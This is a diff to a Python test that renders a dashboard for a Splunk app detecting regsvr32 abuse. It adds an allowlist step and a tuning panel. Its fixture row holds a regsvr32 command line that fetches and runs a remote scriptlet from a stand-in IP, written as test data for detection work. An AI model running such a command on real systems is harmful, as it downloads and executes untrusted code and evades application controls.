@@ -20,9 +20,7 @@ import fnmatch
 import json
 import os
 import re
-import shutil
 import sys
-import tempfile
 
 HERE = os.path.dirname(os.path.abspath(__file__))
 sys.path.insert(0, os.path.dirname(HERE))   # tests/: test_conf
@@ -35,6 +33,8 @@ from regsvr32_detector.registry import SEVERITIES  # noqa: E402
 
 APP = os.path.join(HERE, os.pardir, os.pardir, "app")
 VIEW = os.path.join(APP, "default", "data", "ui", "views", "regsvr32_overview.xml")
+ALLOWLIST_SCRIPT = os.path.join(APP, "bin", "regsvr32allowlist.py")
+CELLS = ("rule_id", "image", "parent_image", "module", "url_host", "user", "host")
 NOW = 1795867200                       # 2026-11-28 12:00:00 UTC, the render's "now"
 EARLIEST = NOW - 24 * 3600             # the time input's default, -24h@h (NOW is on the hour)
 SPAN = 1800                            # timechart's automatic span for 24 hours
@@ -54,25 +54,24 @@ EXTRA_EVENTS = [
 ]
 
 
-# The detector evaluates every sample, so to show its error path one row is made to fail: in a
-# scratch copy of the app whose field normalizer raises on that row (as tests/test_command.py does).
-FAILING = dict(samples.BY_ID["sysmon1-install-office-dll"], sample_id="made-to-fail", host="srv-app-03")
-FAIL = ("\n\n# render test only: the detector fails on one marked row, to reach its error path\n"
-        "_normalize = normalize\n\n\n"
-        "def normalize(record, plan=None):\n"
-        "    if record.get('sample_id') == %r:\n"
-        "        raise ValueError('this row was made to fail by the render test')\n"
-        "    return _normalize(record, plan)\n" % FAILING["sample_id"])
+# A row the detector cannot evaluate, for the panel of such rows: a SentinelOne process start whose
+# event type field (event.type) an extraction dropped. It mentions regsvr32, no reader takes it,
+# and regsvr32_error says why: the real error path, with the real message.
+FAILING = {"tgt.process.cmdline": "regsvr32.exe /s /i:http://198.51.100.23/tasks/update.sct scrobj.dll",
+           "endpoint.name": "srv-app-03", "host": "srv-app-03", "sourcetype": "sentinelone:dv"}
 
 
 def timed_events():
-    """Samples and extras, one every 97 minutes from 23 hours before NOW, oldest first. The
-    dashboard reads raw events (`regsvr32_events`), so the tstats-shaped sample (Processes.*
-    fields, the saved searches' input) is left out."""
+    """Samples and extras spread evenly over the 23 hours before NOW, oldest first, every one
+    before NOW (the time range's end: an event after it is in no time bucket, and the tiles would
+    count what the charts do not draw). The dashboard reads raw events (`regsvr32_events`), so
+    the tstats-shaped sample (Processes.* fields, the saved searches' input) is left out."""
     evs = [dict(e) for e in samples.SAMPLES + EXTRA_EVENTS + [FAILING]
            if not any(k.startswith("Processes.") for k in e)]
+    step = 23 * 3600 // len(evs)
     for i, e in enumerate(evs):
-        e["_time"] = str(NOW - 23 * 3600 + i * 97 * 60)
+        e["_time"] = str(NOW - 23 * 3600 + i * step)
+    assert all(EARLIEST <= int(e["_time"]) < NOW for e in evs)
     return evs
 
 
@@ -263,11 +262,21 @@ def _errors(b):
     return [dict(r, last_seen=strftime(r["last_seen"])) for r in rows]
 
 
+def tune(b):
+    """ds_tune: | where score >= min_score AND len(regsvr32_cell_rule_id) > 0 | sort 0 - _time
+    | head 50 | eval time | rename regsvr32_cell_* as * | table time dest severity rules CELLS"""
+    rows = [r for r in where_score(b) if mv(r.get("regsvr32_cell_rule_id"))]
+    rows = sorted(rows, key=lambda r: -int(r["_time"]))[:50]
+    rows = [dict(r, time=strftime(r["_time"]), **{c: r.get("regsvr32_cell_" + c) for c in CELLS}) for r in rows]
+    return table(rows, "time", "dest", "regsvr32_severity", "regsvr32_rules", *CELLS)
+
+
 # data source id -> rows, from the rows of the data source it extends; each line mirrors that
 # data source's SPL (ds_baseline's is in data_sources(), which holds the baseline)
 MODELS = {
     "ds_base": lambda b: b,
     "ds_baseline": None,
+    "ds_tune": tune,
     "ds_findings": lambda b: stats(where_score(b), None, count=("count", None)),
     "ds_hosts": lambda b: stats(where_score(b), None, hosts=("dc", "dest")),
     "ds_critical": lambda b: stats([r for r in b if r["regsvr32_severity"] == "critical"], None, count=("count", None)),
@@ -310,24 +319,23 @@ def columns(rows):
     return {"fields": [{"name": n} for n in names], "columns": [[cell(r.get(n), n) for r in rows] for n in names]}
 
 
-def command_rows():
-    """The events through | regsvr32detect, over the protocol, in two chunks."""
+def command_rows(args=(), script=None):
+    """The events through | regsvr32detect (or SCRIPT with ARGS), over the protocol, in two chunks."""
     evs = timed_events()
-    with tempfile.TemporaryDirectory() as scratch:
-        app = os.path.join(scratch, "regsvr32detect")
-        shutil.copytree(APP, app, symlinks=True, ignore=shutil.ignore_patterns("lib", "local", "__pycache__"))
-        os.symlink(os.path.join(APP, "bin", "lib"), os.path.join(app, "bin", "lib"))
-        with open(os.path.join(app, "bin", "regsvr32_detector", "fields.py"), "a", encoding="utf-8") as f:
-            f.write(FAIL)
-        result = chunked.run([], [evs[:len(evs) // 2], evs[len(evs) // 2:]],
-                             script=os.path.join(app, "bin", "regsvr32detect.py"))
+    result = chunked.run(list(args), [evs[:len(evs) // 2], evs[len(evs) // 2:]],
+                         **({"script": script} if script else {}))
     if result.refused or result.returncode or len(result.rows) != len(evs):
-        raise AssertionError("regsvr32detect failed: %s %s" % (result.messages, result.stderr))
+        raise AssertionError("the command failed: %s %s" % (result.messages, result.stderr))
     return result.rows
 
 
 def data_sources():
+    # ds_base: ... | regsvr32detect | regsvr32allowlist mode=cells | ...
     rows = command_rows()
+    cells = chunked.run(["mode=cells"], [rows], script=ALLOWLIST_SCRIPT)
+    if cells.refused or cells.returncode or len(cells.rows) != len(rows):
+        raise AssertionError("regsvr32allowlist mode=cells failed: %s %s" % (cells.messages, cells.stderr))
+    rows = cells.rows
     found = {"ds_base": base(rows)}
     found["ds_baseline"] = _baseline(found["ds_base"], baseline(rows))
     sources = definition()["dataSources"]
